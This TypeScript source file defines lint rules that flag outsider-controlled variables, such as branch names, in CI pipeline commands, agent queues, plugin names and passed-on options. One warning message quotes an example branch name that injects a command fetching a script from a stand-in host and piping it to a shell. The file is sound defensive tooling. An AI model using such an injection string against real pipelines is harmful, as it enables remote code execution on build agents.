import { type Outsiders, outsidersAtUpload } from '../../../attributes/outsiders.ts'
import { type FilledIn, filledIn, variableSpan } from '../../../attributes/filled-in-texts.ts'
import type { Graph, Node } from '../../../model/graph.ts'
import type { Finding, ReadShell, Rule } from '../../rule.ts'
import { leftToShell } from './left-to-shell.ts'

/** A text of somebody outside of the team, filled in at upload. */
interface OutsiderText extends FilledIn {
  readonly name: string
  readonly chosenBy: string
  /** All whose text an outsider chooses. */
  readonly outsiders: Outsiders
}

/** An outsider's text in what a shell runs: filled in before the shell reads its quotes (docs/spec/upload.md §4.1). */
export const outsiderInCommand: Rule = {
  ...outsiderRule('KW6001', isCommand, ({ name, chosenBy, text, outsiders, readShell }) => ({
    message: `the upload writes $${name} into a command, where a shell runs it`,
    why: `${chosenBy} chooses that text: a branch named x";curl$\{IFS}evil.sh|sh;" is legal, and no quotes hold it`,
    hint: {
      typescript: `write the command as plain text with "$${name}" in double quotes: the shell reads the variable when the job runs`,
      yaml: `write "$$${name}" in double quotes: the shell reads the variable when the job runs`,
    },
    mend: leftToShell(text, (one) => outsiders.has(one), readShell, { isQuoted: true }),
  })),
  mendsByShell: true,
}

/** An outsider's text that decides which agent runs a job. */
export const outsiderInAgents: Rule = outsiderRule(
  'KW6002',
  ({ path: [attribute] }) => attribute === 'agents',
  ({ name, chosenBy }) => ({
    message: `$${name} decides which agents run the job`,
    why: `${chosenBy} chooses that text, and so the queue: that of the deploys as well`,
    hint: 'name the queue, or choose among queues that are written here',
  }),
)

/** An outsider's text in the name of a plugin: its code runs on the agent. */
export const outsiderInPlugin: Rule = outsiderRule('KW6003', isPluginName, ({ name, chosenBy }) => ({
  message: `$${name} decides which plugin runs, or which version of it`,
  why: `${chosenBy} chooses that text, and the agent runs the code that it names`,
  hint: 'write the name and the version of the plugin',
}))

/** An outsider's text that others make something of: what that is, cannot be seen here. */
export const outsiderHandedOn: Rule = {
  ...outsiderRule('KW6004', isHandedOn, ({ name, chosenBy, path }) => ({
    message: `$${name} is handed on in ${path.filter((part) => typeof part === 'string').join('.')}`,
    why: `${chosenBy} chooses that text, and whoever reads it there may run it, or take it for a path or an option`,
    hint: 'hand on the commit or the number of the build instead, or see that every reader takes it for mere text',
  })),
  isOptional: true,
}

type Words = Pick<Finding, 'message' | 'why' | 'hint' | 'mend'>

function outsiderRule(
  code: Rule['code'],
  isThere: (text: FilledIn & { readonly node: Node }) => boolean,
  words: (text: OutsiderText & { readonly readShell: ReadShell }) => Words,
): Rule {
  return {
    code,
    severity: 'warning',
    *check(graph, { readShell }) {
      for (const found of outsiderTexts(graph)) {
        const { node, path, target, text } = found
        if (node && isThere({ ...found, node }))
          yield {
            node,
            path,
            target,
            mistake: text,
            span: variableSpan(found.name, text),
            ...words({ ...found, readShell }),
          }
      }
    },
  }
}

function* outsiderTexts(graph: Graph): Iterable<OutsiderText> {
  const outsiders = outsidersAtUpload(graph)
  for (const text of filledIn(graph)) {
    const name = text.names.find((one) => outsiders.has(one))
    if (name !== undefined) yield { ...text, name, chosenBy: outsiders.get(name) as string, outsiders }
  }
}

function isCommand({ path: [attribute] }: FilledIn): boolean {
  return attribute === 'command' || attribute === 'commands'
}

/** `plugins: ['a#$X']`, or a key of a plugin's map. */
function isPluginName({ path, target }: FilledIn): boolean {
  const [attribute] = path
  return attribute === 'plugins' && (path.length === 2 || (path.length === 3 && target === 'key'))
}

/** Options of plugins, images, and the environment of a job or of another pipeline's build. */
function isHandedOn(text: FilledIn & { readonly node: Node }): boolean {
  const { path, node } = text
  const [attribute, inside] = path
  if (attribute === 'plugins') return !isPluginName(text)
  if (node.kind === 'trigger') return attribute === 'trigger' || (attribute === 'build' && inside === 'env')
  return attribute === 'env' || attribute === 'image'
}
